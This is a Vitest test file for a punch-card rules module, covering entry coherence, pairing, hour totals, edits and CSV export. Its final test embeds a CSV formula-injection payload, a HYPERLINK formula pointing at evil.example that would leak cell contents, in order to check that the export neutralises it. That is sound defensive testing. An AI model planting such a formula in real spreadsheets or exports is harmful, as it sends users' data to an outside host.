import { describe, expect, it } from 'vitest';
import { punchCardCsv } from './constants';
import {
  effectiveTime,
  entryDay,
  flagIncoherences,
  isCoherent,
  nextEntry,
  pairEntries,
  punchCardsCsv,
  sortEntries,
  totalHours,
  validateEditTime,
} from './rules';

/** An entry at a UTC time of 2026-11-16 (or another day). */
const entry = (isIn: boolean, time: string, day = '2026-11-16', modified?: string) => ({
  is_in: isIn,
  timestamp: `${day}T${time}:00.000Z`,
  timestamp_modified: modified ? `${day}T${modified}:00.000Z` : null,
});
const flags = (entries: ReturnType<typeof entry>[]) =>
  flagIncoherences(entries).map((item) => item.isIncoherent);

describe('punch-card coherence (spec 000 §4)', () => {
  it('is coherent when entries strictly alternate, starting with an entrance', () => {
    expect(isCoherent([entry(true, '08:00'), entry(false, '12:00'), entry(true, '13:00')])).toBe(
      true,
    );
    expect(isCoherent([])).toBe(true);
  });

  it('flags an exit first, and the second of two entrances in a row (only the breaking entry)', () => {
    expect(flags([entry(false, '08:00'), entry(true, '09:00')])).toEqual([true, false]);
    expect(flags([entry(true, '08:00'), entry(true, '09:00'), entry(false, '17:00')])).toEqual([
      false,
      true,
      false,
    ]);
    expect(isCoherent([entry(true, '08:00'), entry(true, '09:00'), entry(false, '17:00')])).toBe(
      false,
    );
  });

  it('orders by the effective time: a modified time wins over the clock time', () => {
    const exit = entry(false, '07:00', '2026-11-16', '12:00');
    expect(effectiveTime(exit)).toBe(Date.parse('2026-11-16T12:00:00.000Z'));
    expect(isCoherent([exit, entry(true, '08:00')])).toBe(true);
  });
});

describe('entries at the same effective time', () => {
  // An exit moved to 12:00 (clocked 07:00) and an entrance clocked at 12:00: the same effective
  // time. The one clocked first comes first, whatever order they are given in, so which entry
  // is flagged and how hours count never depend on the order rows are read in.
  const movedExit = entry(false, '07:00', '2026-11-16', '12:00');
  const clockedIn = entry(true, '12:00');
  const morningIn = entry(true, '08:00');

  it('come in the order they were clocked, whichever order they are given in', () => {
    expect(effectiveTime(movedExit)).toBe(effectiveTime(clockedIn));
    expect(sortEntries([clockedIn, movedExit, morningIn])).toEqual([
      morningIn,
      movedExit,
      clockedIn,
    ]);
    expect(sortEntries([movedExit, clockedIn, morningIn])).toEqual([
      morningIn,
      movedExit,
      clockedIn,
    ]);
  });

  it('coherence, pairs, hours and the CSV all follow that order', () => {
    // 08:00–12:00 is a pair, the 12:00 entrance opens again: coherent, 4 hours, in any order.
    for (const given of [
      [movedExit, clockedIn, morningIn],
      [clockedIn, movedExit, morningIn],
    ]) {
      expect(flags(given)).toEqual([false, false, false]);
      expect(pairEntries(given).map((pair) => [pair.in, pair.out])).toEqual([
        [morningIn, movedExit],
        [clockedIn, null],
      ]);
      expect(totalHours(given)).toBe(4);
      const csvArrivals = punchCardsCsv({
        storeName: 'S',
        zone: 'UTC',
        employees: [{ name: 'A', surname: 'B', entries: given }],
      })
        .split('\r\n')
        .slice(1, -1)
        .map((line) => line.split(';').slice(3).join(' '));
      expect(csvArrivals).toEqual(['08:00 Oui', '12:00 Non', '12:00 Oui']);
    }
  });
});

describe('pairing', () => {
  it('pairs an entrance directly followed by an exit; a lone entry stands alone', () => {
    const pairs = pairEntries([
      entry(false, '07:00'),
      entry(true, '08:00'),
      entry(false, '12:00'),
      entry(true, '13:00'),
    ]);
    expect(
      pairs.map((pair) => [
        pair.in?.timestamp.slice(11, 16) ?? null,
        pair.out?.timestamp.slice(11, 16) ?? null,
      ]),
    ).toEqual([
      [null, '07:00'],
      ['08:00', '12:00'],
      ['13:00', null],
    ]);
  });
});

describe('total hours', () => {
  it('pairs each entrance with the next exit', () => {
    expect(
      totalHours([
        entry(true, '08:00'),
        entry(false, '12:00'),
        entry(true, '13:00'),
        entry(false, '16:30'),
      ]),
    ).toBe(7.5);
  });

  it('ignores an exit without an open entrance (exit first)', () => {
    expect(totalHours([entry(false, '07:00'), entry(true, '08:00'), entry(false, '10:00')])).toBe(
      2,
    );
  });

  it('counts two entrances in a row from the later one', () => {
    expect(totalHours([entry(true, '08:00'), entry(true, '09:00'), entry(false, '12:00')])).toBe(3);
  });

  it('counts a shift across midnight', () => {
    expect(
      totalHours([entry(true, '22:00', '2026-11-16'), entry(false, '06:00', '2026-11-17')]),
    ).toBe(8);
  });

  it('is zero with an entrance never closed', () => {
    expect(totalHours([entry(true, '08:00')])).toBe(0);
  });
});

describe('adding an entry (spec 000 §4, §9)', () => {
  const now = new Date('2026-11-20T14:37:42.000Z');
  it('adds an entrance at the current time of day on an empty day (store zone)', () => {
    // 14:37 UTC is 15:37 in Paris: the entrance is 15:37 Paris time on the chosen date.
    expect(nextEntry([], '2026-11-16', now, 'Europe/Paris')).toEqual({
      is_in: true,
      timestamp: '2026-11-16T14:37:00.000Z',
    });
  });

  it('alternates: an exit one minute after an entrance, an entrance one minute after an exit', () => {
    expect(nextEntry([entry(true, '08:00')], '2026-11-16', now, 'UTC')).toEqual({
      is_in: false,
      timestamp: '2026-11-16T08:01:00.000Z',
    });
    expect(
      nextEntry([entry(true, '08:00'), entry(false, '12:00')], '2026-11-16', now, 'UTC'),
    ).toEqual({ is_in: true, timestamp: '2026-11-16T12:01:00.000Z' });
  });

  it('counts from the modified time of the last entry', () => {
    expect(
      nextEntry([entry(true, '08:00', '2026-11-16', '08:30')], '2026-11-16', now, 'UTC'),
    ).toEqual({ is_in: false, timestamp: '2026-11-16T08:31:00.000Z' });
  });
});

describe('editing a time (spec 000 §5)', () => {
  it('must be after the previous entry', () => {
    const previous = entry(true, '08:00');
    expect(validateEditTime(previous, '2026-11-16T08:00:00.000Z')).toBe(
      'punch-card/edit-too-early',
    );
    expect(validateEditTime(previous, '2026-11-16T07:59:00.000Z')).toBe(
      'punch-card/edit-too-early',
    );
    expect(validateEditTime(previous, '2026-11-16T08:01:00.000Z')).toBeNull();
    expect(validateEditTime(null, '2026-11-16T00:00:00.000Z')).toBeNull();
  });

  it("an entry's day is its effective time's day in the store's zone", () => {
    expect(entryDay(entry(true, '23:30', '2026-11-16'), 'Europe/Paris')).toBe('2026-11-17');
    expect(entryDay(entry(true, '23:30', '2026-11-16'), 'UTC')).toBe('2026-11-16');
  });
});

describe('punch-card CSV (spec 000 §9)', () => {
  it('is exactly the spec file, byte for byte', () => {
    const csv = punchCardsCsv({
      storeName: 'Bistro Opéra',
      zone: 'Europe/Paris',
      employees: [
        {
          name: 'Léa',
          surname: 'Petit',
          entries: [entry(false, '11:30'), entry(true, '07:00')],
        },
        { name: 'Hugo', surname: 'Bernard "HB"', entries: [entry(true, '08:00', '2026-11-18')] },
      ],
    });
    expect(punchCardCsv.fileName).toBe('punch_cards.csv');
    expect(Buffer.from(csv, 'utf8').toString('hex')).toBe(
      Buffer.from(
        'Etablissement;Employee;Date;Time;Arrivée\r\n' +
          'Bistro Opéra;Léa Petit;16/11/2026;08:00;Oui\r\n' +
          'Bistro Opéra;Léa Petit;16/11/2026;12:30;Non\r\n' +
          'Bistro Opéra;"Hugo Bernard ""HB""";18/11/2026;09:00;Oui\r\n',
        'utf8',
      ).toString('hex'),
    );
  });

  it('quotes a field holding the separator', () => {
    const csv = punchCardsCsv({
      storeName: 'Bistro; Nord',
      zone: 'UTC',
      employees: [{ name: 'A', surname: 'B', entries: [entry(true, '08:00')] }],
    });
    expect(csv.split('\r\n')[1]).toBe('"Bistro; Nord";A B;16/11/2026;08:00;Oui');
  });

  it('writes an employee named like a formula as text, not as a live formula', () => {
    const csv = punchCardsCsv({
      storeName: '@Store',
      zone: 'UTC',
      employees: [
        {
          name: '=HYPERLINK("http://evil.example/?"&A1',
          surname: '"x")',
          entries: [entry(true, '08:00')],
        },
      ],
    });
    expect(csv.split('\r\n')[1]).toBe(
      `'@Store;"'=HYPERLINK(""http://evil.example/?""&A1 ""x"")";16/11/2026;08:00;Oui`,
    );
  });
});
